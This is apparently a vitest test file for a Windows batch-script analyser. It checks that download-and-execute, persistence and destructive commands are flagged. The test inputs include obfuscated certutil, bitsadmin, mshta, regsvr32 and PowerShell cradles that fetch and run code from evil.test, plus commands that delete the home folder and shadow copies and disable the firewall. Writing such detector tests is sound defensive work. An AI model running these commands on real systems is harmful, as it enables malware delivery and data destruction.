import { describe, expect, test } from "vitest";
import { describeActs, describeFlows } from "../../testing/describe-facts.ts";
import { makeSource } from "../../testing/make-source.ts";
import type { Analysis } from "../fact-writer.ts";
import { analyseBatch } from "./analyse-shell.ts";

function analyse(text: string): Analysis {
  return analyseBatch(makeSource(text, { file: "run.bat", language: "batch", medium: "script" }));
}

describe("a download that is run is a flow", () => {
  test.each([
    [
      'certutil -urlcache -split -f http://evil.test/a.exe %TEMP%\\a.exe\r\nstart "" %TEMP%\\a.exe',
      "2: network evil.test > execute file a.exe",
    ],
    [
      "set a=cer\r\nset b=tutil\r\n%a%%b% -urlcache -f http://evil.test/a.exe a.exe & a.exe",
      "3: network evil.test > execute file a.exe",
    ],
    ["c^u^r^l -o x.bat http://evil.test/x && x.bat", "1: network evil.test > execute file x.bat"],
    ["curl -o x.bat http://evil.test/x && x.bat^", "1: network evil.test > execute file x.bat"],
    [
      "bitsadmin /transfer j http://evil.test/a.exe C:\\t\\a.exe\nC:\\t\\a.exe",
      "2: network evil.test > execute file a.exe",
    ],
    [
      "for /f \"tokens=*\" %i in ('nslookup -q=txt a.evil.test ^| findstr Name') do cmd /c %i",
      "1: network a.evil.test > execute interpreter cmd",
    ],
    [
      "for /f %%x in ('curl http://evil.test') do call %%x",
      "1: network evil.test > execute shell the shell itself",
    ],
    ["mshta http://evil.test/a.hta", "1: network evil.test > execute interpreter mshta"],
    [
      "regsvr32 /s /u /i:http://evil.test/a.sct scrobj.dll",
      "1: network evil.test > execute interpreter regsvr32",
    ],
    ["if exist x curl -s http://evil.test | cmd", "1: network evil.test > execute interpreter cmd"],
  ])("%j", (text, flow) => {
    expect(describeFlows(analyse(text).facts)).toEqual([flow]);
  });

  test.each([
    "rem mshta http://evil.test",
    ":: curl http://evil.test | cmd",
    "curl -o data.json https://api.test/x",
    "echo curl http://evil.test",
  ])("%s is no execution", (text) => {
    expect(describeFlows(analyse(text).facts)).toEqual([]);
  });
});

test("a call of PowerShell is handed on", () => {
  const { texts } = analyse('powershell -nop -c "iex(irm http://evil.test)"');
  expect(texts.map(({ language, text }) => [language, text])).toEqual([
    ["powershell", "iex(irm http://evil.test)"],
  ]);
});

test("what it does to the machine", () => {
  const text =
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b\nrd /s /q %USERPROFILE%\nvssadmin delete shadows /all\nnetsh advfirewall set allprofiles state off";
  expect(describeActs(analyse(text).facts, "persist", "destroy", "disable-protection")).toEqual([
    "1: persist registry-run",
    "2: destroy home",
    "3: destroy backups",
    "4: disable-protection firewall",
  ]);
});

test("a decoded file that is run is a flow", () => {
  const text = "certutil -decode a.txt a.exe\na.exe";
  expect(describeFlows(analyse(text).facts)).toEqual(["2: decoded base64 > execute file a.exe"]);
});

test.each(["^".repeat(300_000), "%a:~1".repeat(50_000), "for ".repeat(70_000), "a>b".repeat(100_000)])(
  "a hostile line ends, and is reported where it is cut",
  (text) => {
    expect(analyse(text).unread === undefined).toBe(text.length <= 32 * 1024);
  },
);

test("a loop that only keeps what a command prints runs nothing of it", () => {
  expect(describeFlows(analyse("for /f %i in ('curl -s http://evil.test') do set A=%i").facts)).toEqual([]);
});
